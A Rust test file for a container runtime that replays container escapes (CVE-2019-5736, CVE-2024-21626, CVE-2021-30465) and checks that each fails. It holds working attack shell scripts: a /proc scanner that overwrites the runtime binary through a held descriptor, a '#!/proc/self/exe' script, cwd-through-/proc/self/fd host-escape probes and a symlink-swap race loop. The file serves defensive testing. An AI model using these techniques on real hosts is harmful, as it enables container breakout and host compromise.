//! Breakout defences (issue 5). Each test replays a known container escape with real
//! containers and checks that it fails:
//!
//! - CVE-2019-5736: overwriting the runtime's binary through `/proc/PID/exe`, reached through a
//!   `#!/proc/self/exe` program run by `exec` or as the entrypoint, or through the container's
//!   first process while it waits for `start` (with and without a user namespace). These tests
//!   run a *copy* of the runtime under test, so a successful attack damages the copy, never the
//!   build; the copy's hash must not change and the write must fail with EROFS (read-only) or
//!   EPERM (sealed).
//! - CVE-2024-21626: host descriptors (directories) inherited by the runtime reaching the
//!   container, and `process.cwd` / `exec --cwd` of `/proc/self/fd/N` escaping to the host.
//! - CVE-2021-30465 and friends: mount destinations and masked/read-only paths that are
//!   symlinks out of the rootfs, and a symlink swapped in during create by another container
//!   sharing a volume.
//! - The hardening of the default spec: masked and read-only paths of `spec`, and a fresh
//!   session keyring unless `--no-new-keyring`. (no_new_privileges and the bounding set are
//!   covered in process.rs: `no_new_privileges`, `capability_sets_follow_the_config`.)
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rcrun_conformance::env::subject_bin;
use rcrun_conformance::runtime::Opts;
use rcrun_conformance::util::{parse_mountinfo, wait_until, TempDir};
use rcrun_conformance::*;
use serde_json::json;

// ---------------------------------------------------------------------------------------------
// CVE-2019-5736
// ---------------------------------------------------------------------------------------------

/// FNV-1a of a file's bytes: enough to tell "unchanged" from "written to".
fn fingerprint(p: &Path) -> u64 {
    let bytes = std::fs::read(p).unwrap_or_else(|e| panic!("read {}: {e}", p.display()));
    bytes.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(*b)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// A copy of the runtime under test in a temp dir (optionally owned by `owner`), so that an
/// attack that works overwrites the copy and not the build.
fn runtime_copy(owner: Option<u32>) -> (TempDir, PathBuf) {
    let dir = TempDir::new("exe-copy");
    let bin = dir.join("rcrun-copy");
    std::fs::copy(subject_bin(), &bin).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    if let Some(uid) = owner {
        std::os::unix::fs::chown(&bin, Some(uid), Some(uid)).unwrap();
    }
    (dir, bin)
}

fn write_executable(p: &Path, text: &str) {
    std::fs::write(p, text).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// The shared libraries and loader of a dynamically linked `bin`, copied into `rootfs` at their
/// host paths, as any glibc-based image has them: the runtime's binary can then actually run
/// when the kernel starts it inside the container. Nothing to do for a static binary.
fn add_shared_libraries(bin: &Path, rootfs: &Path) {
    let (code, out, _) = util::host("ldd", &[bin.to_str().unwrap()]);
    if code != 0 {
        return;
    }
    for line in out.lines() {
        let lib = line.rsplit("=>").next().unwrap_or("").trim();
        let lib = lib.split(' ').next().unwrap_or("");
        if let Some(rel) = lib.strip_prefix('/') {
            let dest = rootfs.join(rel);
            std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
            std::fs::copy(lib, &dest).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
        }
    }
}

/// The attacker's second half: holding fd 3 on what it believes is the runtime's binary, try
/// to append to it for `$TRIES` × 10 ms (the write only has a chance once no process runs the
/// binary any more: ETXTBSY until then), then leave the verdict in /tmp/result: `written`, or
/// the last error.
const WRITE_LOOP: &str = r#"
i=0
while [ $i -lt $TRIES ]; do
  if (echo PWNED >> /proc/self/fd/3) 2>>/tmp/errors; then echo written > /tmp/result; exit 0; fi
  i=$((i+1)); usleep 10000
done
tail -n 1 /tmp/errors > /tmp/result
"#;

/// Scan /proc until a process other than the shell itself has an executable that is not
/// busybox, keep fd 3 on it, record its pid in /tmp/grabbed and run [`WRITE_LOOP`].
fn scanner(pid_glob: &str, tries: u32) -> String {
    format!(
        r#"rm -f /tmp/grabbed /tmp/result /tmp/errors
while :; do
  for d in {pid_glob}; do
    [ "${{d#/proc/}}" = "$$" ] && continue
    {{ command exec 3<"$d/exe"; }} 2>/dev/null || continue
    if [ /proc/self/fd/3 -ef /bin/busybox ]; then exec 3<&-; continue; fi
    echo "${{d#/proc/}}" > /tmp/grabbed
    TRIES={tries}
    {WRITE_LOOP}
    exit 0
  done
done
"#
    )
}

/// The errno texts a write to a protected runtime binary may fail with: a read-only mount
/// (EROFS), a sealed memfd (EPERM), or, on Linux 6.1 in a user namespace, the permission check
/// that runs before the mount's (EACCES). The fingerprint of the binary is the verdict; this
/// only rejects failures that say nothing about protection (e.g. ETXTBSY, the binary busy).
fn assert_protected_write_error(result: &str) {
    assert!(
        result.contains("Read-only file system")
            || result.contains("Operation not permitted")
            || result.contains("Permission denied"),
        "the write must fail because the binary is read-only or sealed, got: {result:?}"
    );
}

/// Wait (without running the runtime: a running copy keeps the binary busy) for the attacker's
/// verdict file.
fn wait_for_file(p: &Path, timeout: Duration) -> String {
    assert!(
        wait_until(timeout, || std::fs::read_to_string(p)
            .is_ok_and(|s| !s.is_empty())),
        "no {} after {timeout:?}",
        p.display()
    );
    std::fs::read_to_string(p).unwrap().trim().to_string()
}

/// A bundle whose rootfs holds `/bin/evil`, a `#!/proc/self/exe` script, and what a dynamically
/// linked runtime binary needs to run; writable root so the attacker can report in /tmp.
fn evil_bundle(bin: &Path) -> Bundle {
    let mut b = Bundle::new();
    b.readonly_root(false);
    write_executable(&b.rootfs().join("bin/evil"), "#!/proc/self/exe\n");
    add_shared_libraries(bin, &b.rootfs());
    b
}

/// A pipe whose buffer is full (the write end blocking again): a process that writes to it
/// waits until the read end is drained or closed. Returns (read end, write end).
fn full_pipe() -> (OwnedFd, OwnedFd) {
    let mut fds = [0; 2];
    // SAFETY: pipe2 into a two-element array.
    assert_eq!(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) }, 0);
    // SAFETY: the kernel just returned these descriptors.
    let (r, w) = unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) };
    // SAFETY: fcntl and write on a descriptor we own.
    unsafe {
        libc::fcntl(w.as_raw_fd(), libc::F_SETFL, libc::O_NONBLOCK);
        let block = [0u8; 4096];
        while libc::write(w.as_raw_fd(), block.as_ptr().cast(), block.len()) > 0 {}
        libc::fcntl(w.as_raw_fd(), libc::F_SETFL, 0);
    }
    (r, w)
}

/// Start `rt` with `args`, its stdout and stderr a full pipe (whatever it starts inherits
/// them); returns the process and the pipe's read end (drop it to unblock writers: EPIPE).
fn spawn_on_full_pipe(rt: &Runtime, args: &[&str]) -> (std::process::Child, OwnedFd) {
    let (r, w) = full_pipe();
    let child = std::process::Command::new(&rt.bin)
        .arg("--root")
        .arg(rt.root())
        .args(args)
        .stdin(std::process::Stdio::null())
        .stdout(w.try_clone().unwrap())
        .stderr(w)
        .spawn()
        .unwrap();
    (child, r)
}

fn wait_child(child: &mut std::process::Child, what: &str) -> std::process::ExitStatus {
    if !wait_until(Duration::from_secs(30), || {
        child.try_wait().unwrap().is_some()
    }) {
        let _ = child.kill();
        panic!("{what} did not finish");
    }
    child.wait().unwrap()
}

/// The original CVE-2019-5736 attack, `docker exec` of a program that is a `#!/proc/self/exe`
/// script: the kernel runs the interpreter `/proc/self/exe` of the process doing the execve,
/// the runtime's binary, inside the container. The container's init scans /proc for a process
/// whose executable is not busybox (that one, or the exec'd process before its execve), keeps
/// a descriptor to it and writes through it once the runtime is gone. The `exec` runs with its
/// stdout and stderr a full pipe, so the runtime's binary blocks on its error message until
/// the test closes the pipe.
#[test]
fn exec_of_a_proc_self_exe_script_cannot_overwrite_the_runtime() {
    let (_dir, bin) = runtime_copy(None);
    let before = fingerprint(&bin);
    let rt = Runtime::with_bin(bin.clone(), "subject copy");
    let mut b = evil_bundle(&bin);
    b.sh(&scanner("/proc/[0-9]*", 400));
    let _g = rt.guard(&b.id);
    rt.start_detached(&b);
    let tmp = b.rootfs().join("tmp");

    // The runtime's binary fails on its arguments and blocks writing the error to the full
    // pipe, so the attacker cannot miss it (it lives about a millisecond otherwise).
    let (mut exec, pipe_r) = spawn_on_full_pipe(&rt, &["exec", &b.id, "/bin/evil"]);
    let grabbed = wait_until(Duration::from_secs(10), || tmp.join("grabbed").exists());
    // Let it finish (EPIPE): only once no process runs the binary can a write succeed.
    drop(pipe_r);
    wait_child(&mut exec, "exec");
    assert!(
        grabbed,
        "the attacker never got hold of a non-busybox executable: the attack was not exercised"
    );
    let result = wait_for_file(&tmp.join("result"), Duration::from_secs(60));
    assert_eq!(
        fingerprint(&bin),
        before,
        "the runtime binary was overwritten from inside the container (attacker: {result})"
    );
    assert_protected_write_error(&result);
}

/// The same attack through the container's entrypoint (`docker run` of a malicious image):
/// the first process execs a `#!/proc/self/exe` program. The attacker is exec'd into the
/// created container before `start` and watches the first process by its pid; the container
/// has no pid namespace of its own, or the attacker would die with the first process before it
/// could write. As above, the container's stdout and stderr are a full pipe.
#[test]
fn entrypoint_proc_self_exe_script_cannot_overwrite_the_runtime() {
    let (_dir, bin) = runtime_copy(None);
    let before = fingerprint(&bin);
    let rt = Runtime::with_bin(bin.clone(), "subject copy");
    let mut b = evil_bundle(&bin);
    b.remove_namespace("pid").args(&["/bin/evil"]);
    b.write();
    rt.remember(&b.id, &b);
    let _g = rt.guard(&b.id);
    let bp = b.path().to_string_lossy().into_owned();
    let (mut create, pipe_r) = spawn_on_full_pipe(&rt, &["create", "--bundle", &bp, &b.id]);
    assert!(wait_child(&mut create, "create").success(), "create failed");
    let pid = rt.pid(&b.id);
    let tmp = b.rootfs().join("tmp");
    rt.exec(&[
        "exec",
        "--detach",
        &b.id,
        "sh",
        "-c",
        &scanner(&format!("/proc/{pid}"), 300),
    ])
    .assert_ok();
    rt.start(&b.id).assert_ok();
    let grabbed = wait_until(Duration::from_secs(10), || tmp.join("grabbed").exists());
    // Let the runtime's binary finish (EPIPE): only then can a write to it succeed.
    drop(pipe_r);
    assert!(
        grabbed,
        "the attacker never got hold of the first process' executable: the attack was not \
         exercised"
    );
    let result = wait_for_file(&tmp.join("result"), Duration::from_secs(60));
    assert_eq!(
        fingerprint(&bin),
        before,
        "the runtime binary was overwritten from inside the container (attacker: {result})"
    );
    assert_protected_write_error(&result);
}

/// Until its execve the container's first process is the runtime's code, waiting for `start`.
/// A process exec'd into the created container must not be able to open its `/proc/1/exe`
/// (it is not dumpable); should it ever, the write must still fail. In a user namespace the
/// binary is owned by the user the container's root maps to (a rootless install), so that
/// file permissions alone would not stop the write.
#[test]
fn waiting_first_process_is_out_of_reach() {
    const HOST_ID: u32 = 100_000;
    for userns in [false, true] {
        let (_dir, bin) = runtime_copy(userns.then_some(HOST_ID));
        let before = fingerprint(&bin);
        let rt = Runtime::with_bin(bin.clone(), "subject copy");
        let mut b = Bundle::new();
        b.readonly_root(false).args(&["sleep", "1000"]);
        if userns {
            b.namespace("user", None)
                .id_mappings(HOST_ID, HOST_ID, 65536);
        }
        let attacker = format!(
            r#"
n=0
until {{ command exec 3</proc/1/exe; }} 2>>/tmp/open-errors; do
  n=$((n+1)); [ $n -ge 100 ] && {{ tail -n 1 /tmp/open-errors > /tmp/result; exit 0; }}
  usleep 10000
done
echo grabbed > /tmp/grabbed
TRIES=300
{WRITE_LOOP}"#
        );
        let _g = rt.guard(&b.id);
        rt.create(&b).assert_ok();
        rt.exec(&["exec", "--detach", &b.id, "sh", "-c", &attacker])
            .assert_ok();
        let tmp = b.rootfs().join("tmp");
        // Let the attacker try while the first process waits, then let it exec.
        wait_until(Duration::from_secs(3), || {
            tmp.join("grabbed").exists() || tmp.join("result").exists()
        });
        rt.start(&b.id).assert_ok();
        let result = wait_for_file(&tmp.join("result"), Duration::from_secs(60));
        assert_eq!(
            fingerprint(&bin),
            before,
            "userns={userns}: the runtime binary was overwritten (attacker: {result})"
        );
        if tmp.join("grabbed").exists() {
            assert_protected_write_error(&result);
        } else {
            assert!(
                result.contains("Permission denied"),
                "userns={userns}: opening /proc/1/exe must be refused: {result}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// CVE-2024-21626
// ---------------------------------------------------------------------------------------------

/// Host directories placed at fds 3..=7 of the runtime (not close-on-exec), as a careless
/// caller (or a runtime's own leak) would leave them. `victim` is a fresh host directory.
fn host_dir_fds(victim: &Path) -> Vec<(PathBuf, RawFd)> {
    vec![
        (victim.to_path_buf(), 3),
        (PathBuf::from("/sys/fs/cgroup"), 4),
        (PathBuf::from("/"), 5),
        (PathBuf::from("/etc"), 6),
        (victim.to_path_buf(), 7),
    ]
}

/// A host directory with a marker file the container must never read.
fn victim_dir() -> (TempDir, String) {
    let d = TempDir::new("victim");
    let marker = format!("host-marker-{}", util::unique_id("m"));
    std::fs::write(d.join("marker"), &marker).unwrap();
    (d, marker)
}

/// From a cwd on the host, `..` climbs to the host's root (the container's root is never
/// crossed), from where the victim's marker is reachable by its host path.
fn escape_probe(victim: &Path) -> String {
    format!(
        "cat {}{}/marker 2>/dev/null; echo; readlink /proc/self/cwd; echo probe-done",
        "../".repeat(16),
        victim.display()
    )
}

#[test]
fn host_directory_fds_never_reach_the_container() {
    let rt = Runtime::rcrun();
    let (victim, _) = victim_dir();
    let mut b = Bundle::new();
    b.args(&["sleep", "1000"]);
    b.write();
    let _g = rt.guard(&b.id);
    let bp = b.path().to_string_lossy().into_owned();
    rt.exec_opts(
        &["create", "--bundle", &bp, &b.id],
        Opts {
            fds: host_dir_fds(victim.path()),
            ..Opts::default()
        },
    )
    .assert_ok();
    rt.start(&b.id).assert_ok();
    let out = rt.exec_opts(
        &[
            "exec",
            &b.id,
            "sh",
            "-c",
            "ls /proc/1/fd | tr '\\n' ' '; echo; ls /proc/self/fd | tr '\\n' ' '",
        ],
        Opts {
            fds: host_dir_fds(victim.path()),
            ..Opts::default()
        },
    );
    out.assert_ok();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(
        lines.first().map(|l| l.trim()),
        Some("0 1 2"),
        "init: {out}"
    );
    // ls's own directory descriptor is 3.
    assert_eq!(
        lines.get(1).map(|l| l.trim()),
        Some("0 1 2 3"),
        "exec: {out}"
    );
}

/// A refused cwd must say so: it names the cwd (rcrun) or the path (runc).
fn assert_clear_cwd_error(out: &rcrun_conformance::runtime::Output, n: i32) {
    out.assert_fail();
    let line = out.stderr_lines().join(" ");
    assert!(
        out.stderr_lines().len() == 1
            && (line.contains("cwd") || line.contains(&format!("/proc/self/fd/{n}"))),
        "expected one error line about the cwd:\n{out}"
    );
}

/// `process.cwd` of `/proc/self/fd/N`: the chdir happens in the runtime's process before
/// execve, so it resolves against the runtime's descriptors. The container must fail to
/// start with an error about the cwd, or start inside its rootfs; never on the host.
#[test]
fn process_cwd_through_proc_self_fd_cannot_escape() {
    let rt = Runtime::rcrun();
    let (victim, marker) = victim_dir();
    for n in 3..=10 {
        let mut b = Bundle::new();
        b.cwd(&format!("/proc/self/fd/{n}"))
            .sh(&escape_probe(victim.path()));
        b.write();
        let _g = rt.guard(&b.id);
        let bp = b.path().to_string_lossy().into_owned();
        let out = rt.exec_opts(
            &["run", "--bundle", &bp, &b.id],
            Opts {
                fds: host_dir_fds(victim.path()),
                ..Opts::default()
            },
        );
        assert!(
            !out.stdout.contains(&marker),
            "cwd /proc/self/fd/{n}: the container read a host file:\n{out}"
        );
        if out.success() {
            assert!(out.stdout.contains("probe-done"), "{out}");
        } else {
            assert_clear_cwd_error(&out, n);
        }
    }
}

#[test]
fn exec_cwd_through_proc_self_fd_cannot_escape() {
    let rt = Runtime::rcrun();
    let (victim, marker) = victim_dir();
    let mut b = Bundle::new();
    b.args(&["sleep", "1000"]);
    let _g = rt.guard(&b.id);
    rt.start_detached(&b);
    let probe = escape_probe(victim.path());
    for n in 3..=10 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = rt.exec_opts(
            &["exec", "--cwd", &cwd, &b.id, "sh", "-c", &probe],
            Opts {
                fds: host_dir_fds(victim.path()),
                ..Opts::default()
            },
        );
        assert!(
            !out.stdout.contains(&marker),
            "exec --cwd {cwd}: the process read a host file:\n{out}"
        );
        if out.success() {
            assert!(out.stdout.contains("probe-done"), "{out}");
        } else {
            assert_clear_cwd_error(&out, n);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// CVE-2021-30465 and friends: symlinks out of the rootfs
// ---------------------------------------------------------------------------------------------

/// A createContainer hook runs in the container's mount namespace before pivot_root, with the
/// host's tree as its root: it records that namespace's mount table into `file`, where a
/// mount that escaped the rootfs shows up under its host path.
fn record_mounts_hook(b: &mut Bundle, file: &Path) {
    b.sh_hook(
        "createContainer",
        &format!("cat /proc/self/mountinfo > {}", file.display()),
    );
}

/// Mount points at or below `dir` in a mountinfo dump.
fn mounts_at_or_below(mountinfo: &str, dir: &Path) -> Vec<String> {
    let d = dir.to_string_lossy();
    parse_mountinfo(mountinfo)
        .into_iter()
        .map(|m| m.mount_point)
        .filter(|mp| mp == d.as_ref() || mp.starts_with(&format!("{d}/")))
        .collect()
}

/// `p` as a path inside the rootfs (its host path reinterpreted from the container's root).
fn in_root(rootfs: &Path, p: &Path) -> PathBuf {
    rootfs.join(p.strip_prefix("/").unwrap())
}

#[test]
fn mount_destinations_through_symlinks_stay_in_the_rootfs() {
    let rt = Runtime::rcrun();
    let (victim, marker) = victim_dir();
    let v = victim.path().to_string_lossy().into_owned();
    let src = TempDir::new("bind-src");
    std::fs::write(src.join("from-src"), "src\n").unwrap();
    let hook_out = TempDir::new("hook");
    let dump = hook_out.join("mountinfo");

    let mut b = Bundle::new();
    let root = b.rootfs();
    std::fs::create_dir_all(root.join("linkparent")).unwrap();
    // Absolute, dotted, relative, through a symlinked parent, and through /proc's magic links
    // (the container's /proc is mounted first; its /proc/self/root is the runtime's root).
    let links: [(&str, String); 6] = [
        ("abs", format!("{v}/abs")),
        ("dots", format!("/../../../../../..{v}/dots")),
        ("rel", format!("{}{}/rel", "../".repeat(12), &v[1..])),
        ("linkparent/dir", v.clone()),
        ("magic", format!("/proc/self/root{v}/magic")),
        ("bindlink", format!("{v}/bind")),
    ];
    for (name, target) in &links {
        std::os::unix::fs::symlink(target, root.join(name)).unwrap();
    }
    for d in ["abs", "dots", "rel", "magic", "bind", "sub"] {
        std::fs::create_dir_all(victim.join(d)).unwrap();
    }
    for dest in ["/abs", "/dots", "/rel", "/linkparent/dir/sub", "/magic"] {
        b.mount(
            json!({"destination": dest, "type": "tmpfs", "source": "tmpfs",
                       "options": ["size=1m"]}),
        );
    }
    b.bind(src.path(), "/bindlink", &[]);
    record_mounts_hook(&mut b, &dump);
    b.readonly_root(false).sh(&format!(
        "cat {v}/marker 2>/dev/null; ls {v}/bind; cat /proc/self/mountinfo"
    ));

    let _g = rt.guard(&b.id);
    let out = rt.run(&b, &[]);
    let hook = std::fs::read_to_string(&dump).unwrap_or_default();
    let escaped = mounts_at_or_below(&hook, victim.path());
    assert!(
        escaped.is_empty(),
        "mounts landed on the host path {v}: {escaped:?}\n{out}"
    );
    assert!(
        util::mounts_under(victim.path()).is_empty(),
        "host sees mounts on {v}"
    );
    assert_eq!(
        std::fs::read_to_string(victim.join("marker")).unwrap(),
        marker
    );
    eprintln!(
        "create {}",
        if out.success() { "succeeded" } else { "failed" }
    );
    if out.success() {
        // Each mount is inside the rootfs, where the symlink points when read from its root.
        let inside = mounts_at_or_below(&hook, &in_root(&root, victim.path()));
        for d in ["abs", "dots", "rel", "sub", "magic", "bind"] {
            let want = in_root(&root, &victim.join(d))
                .to_string_lossy()
                .into_owned();
            assert!(
                inside.contains(&want),
                "no mount at {want} inside the rootfs: {inside:?}\n{out}"
            );
        }
        assert!(out.stdout.contains("from-src"), "{out}");
        assert!(!out.stdout.contains(&marker), "{out}");
    } else {
        out.assert_fail().assert_one_line_error(&[]);
    }
}

#[test]
fn masked_and_readonly_paths_through_symlinks_stay_in_the_rootfs() {
    let rt = Runtime::rcrun();
    let (victim, marker) = victim_dir();
    let v = victim.path().to_string_lossy().into_owned();
    std::fs::create_dir_all(victim.join("rodir")).unwrap();
    std::fs::create_dir_all(victim.join("maskdir")).unwrap();
    std::fs::write(victim.join("maskdir/host-file"), "host\n").unwrap();

    let mut b = Bundle::new();
    let root = b.rootfs();
    // In-root counterparts of the host paths, so the symlinks resolve to something.
    let inv = in_root(&root, victim.path());
    std::fs::create_dir_all(inv.join("rodir")).unwrap();
    std::fs::create_dir_all(inv.join("maskdir")).unwrap();
    std::fs::write(inv.join("maskdir/inner"), "inner\n").unwrap();
    std::fs::write(inv.join("secret"), "in-root secret\n").unwrap();
    std::os::unix::fs::symlink(format!("{v}/maskdir"), root.join("mask-abs")).unwrap();
    std::os::unix::fs::symlink(format!("/../../../..{v}/secret"), root.join("mask-file")).unwrap();
    std::os::unix::fs::symlink(
        format!("{}{}/rodir", "../".repeat(12), &v[1..]),
        root.join("ro-rel"),
    )
    .unwrap();
    b.readonly_root(false)
        .masked_paths(&["/mask-abs", "/mask-file"])
        .readonly_paths(&["/ro-rel"]);
    let out = rt.sh_ok(
        &mut b,
        "ls -A /mask-abs | wc -l; wc -c < /mask-file; \
         touch /ro-rel/x 2>/dev/null && echo ro-writable || echo ro-denied; \
         touch /other && echo other-writable",
    );
    let lines: Vec<&str> = out.lines().map(str::trim).collect();
    assert_eq!(lines, ["0", "0", "ro-denied", "other-writable"], "{out}");
    assert!(util::mounts_under(victim.path()).is_empty());
    assert_eq!(
        std::fs::read_to_string(victim.join("maskdir/host-file")).unwrap(),
        "host\n"
    );
    assert_eq!(
        std::fs::read_to_string(victim.join("marker")).unwrap(),
        marker
    );
}

/// The CVE-2021-30465 proof of concept: container A shares a volume with container B and
/// swaps directories in it for symlinks to a host path in a loop, while B, whose mount
/// destinations lie in that volume, is created over and over. A runtime that resolves a
/// destination and then mounts by path can be made to follow the swapped-in symlink out of the
/// rootfs. B's createContainer hook records its mount table: no mount may ever be on the host
/// path. Bounded: 40 creates of 16 mounts each.
#[test]
fn symlink_swapped_in_during_create_never_redirects_a_mount() {
    const SLOTS: usize = 16;
    const CREATES: usize = 40;
    let rt = Runtime::rcrun();
    let (victim, marker) = victim_dir();
    let v = victim.path().to_string_lossy().into_owned();
    let volume = TempDir::new("shared-vol");

    let mut attacker = Bundle::new();
    attacker.bind(volume.path(), "/vol", &[]).sh(&format!(
        "cd /vol; while :; do for i in $(seq {SLOTS}); do \
           rm -rf d$i; mkdir d$i; rm -rf d$i; ln -s {v} d$i; done; done"
    ));
    let _ga = rt.guard(&attacker.id);
    rt.start_detached(&attacker);

    let hook_out = TempDir::new("hook");
    let mut escapes = Vec::new();
    let (mut created, mut refused) = (0, 0);
    let deadline = Instant::now() + Duration::from_secs(240);
    for i in 0..CREATES {
        if Instant::now() > deadline {
            break;
        }
        let mut b = Bundle::new();
        b.bind(volume.path(), "/vol", &[]).args(&["true"]);
        for s in 1..=SLOTS {
            b.mount(json!({"destination": format!("/vol/d{s}"), "type": "tmpfs",
                           "source": "tmpfs", "options": ["size=1m"]}));
        }
        let dump = hook_out.join(format!("mountinfo-{i}"));
        record_mounts_hook(&mut b, &dump);
        let _g = rt.guard(&b.id);
        let out = rt.create(&b);
        if out.success() {
            created += 1;
        } else {
            out.assert_fail();
            if refused == 0 {
                eprintln!("first refusal: {}", out.stderr.trim());
            }
            refused += 1;
        }
        let hook = std::fs::read_to_string(&dump).unwrap_or_default();
        escapes.extend(mounts_at_or_below(&hook, victim.path()));
        escapes.extend(util::mounts_under(victim.path()));
        rt.delete_force(&b.id);
        if !escapes.is_empty() {
            break;
        }
    }
    eprintln!("{created} creates succeeded, {refused} failed during the swap loop");
    assert!(
        escapes.is_empty(),
        "a mount landed on the host path {v} (after {created} + {refused} creates): {escapes:?}"
    );
    assert!(created + refused > 0);
    assert_eq!(
        std::fs::read_to_string(victim.join("marker")).unwrap(),
        marker
    );
}

// ---------------------------------------------------------------------------------------------
// Default hardening
// ---------------------------------------------------------------------------------------------

/// The masked and read-only paths of `spec`'s default config are effective.
#[test]
fn default_spec_masks_and_protects_proc_and_sys() {
    let rt = Runtime::rcrun();
    let gen = TempDir::new("spec");
    rt.exec(&["spec", "--bundle", gen.path().to_str().unwrap()])
        .assert_ok();
    let cfg: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(gen.join("config.json")).unwrap()).unwrap();
    let mut b = Bundle::new();
    for key in ["maskedPaths", "readonlyPaths"] {
        assert!(
            cfg["linux"][key].as_array().is_some_and(|a| !a.is_empty()),
            "spec has no {key}: {cfg}"
        );
        b.set(&format!("/linux/{key}"), cfg["linux"][key].clone());
    }
    let mut script = String::new();
    for p in [
        "/proc/kcore",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug",
    ] {
        if Path::new(p).exists() {
            script.push_str(&format!("echo {p} $(cat {p} 2>/dev/null | wc -c); "));
        }
    }
    script.push_str("echo /sys/firmware $(ls -A /sys/firmware | wc -l); ");
    // Opening for append writes nothing, even if the open were allowed.
    for p in ["/proc/sys/kernel/domainname", "/proc/sysrq-trigger"] {
        script.push_str(&format!(
            "(: >> {p}) 2>/dev/null && echo {p} writable || echo {p} read-only; "
        ));
    }
    let out = rt.sh_ok(&mut b, &script);
    for line in out.lines() {
        let (path, verdict) = line.split_once(' ').unwrap();
        assert!(
            verdict == "0" || verdict == "read-only",
            "{path} is not masked or read-only: {verdict}\n{out}"
        );
    }
    assert!(out.contains("/proc/sysrq-trigger read-only"), "{out}");
}

/// `keyctl rdescribe @s` in a createContainer hook: the hook is a child of the container's
/// first process, so it has the container's session keyring.
#[test]
fn each_container_gets_its_own_session_keyring_unless_told_not_to() {
    let keyctl = rcrun_conformance::env::ensure_tool("keyctl", "keyutils");
    let rt = Runtime::rcrun();
    let out_dir = TempDir::new("keyring");
    let host = util::host(keyctl.to_str().unwrap(), &["rdescribe", "@s"]);
    assert_eq!(host.0, 0, "keyctl on the host: {}", host.2);
    for no_new in [false, true] {
        let file = out_dir.join(format!("ses-{no_new}"));
        let mut b = Bundle::new();
        b.sh_hook(
            "createContainer",
            &format!("{} rdescribe @s > {}", keyctl.display(), file.display()),
        );
        let extra: &[&str] = if no_new { &["--no-new-keyring"] } else { &[] };
        let _g = rt.guard(&b.id);
        rt.run(&b, extra).assert_ok();
        let got = std::fs::read_to_string(&file).unwrap();
        let desc = got.trim().rsplit(';').next().unwrap_or("").to_string();
        if no_new {
            assert_eq!(got.trim(), host.1.trim(), "--no-new-keyring: the caller's");
        } else {
            assert_eq!(desc, format!("_ses.{}", b.id), "{got}");
        }
    }
}
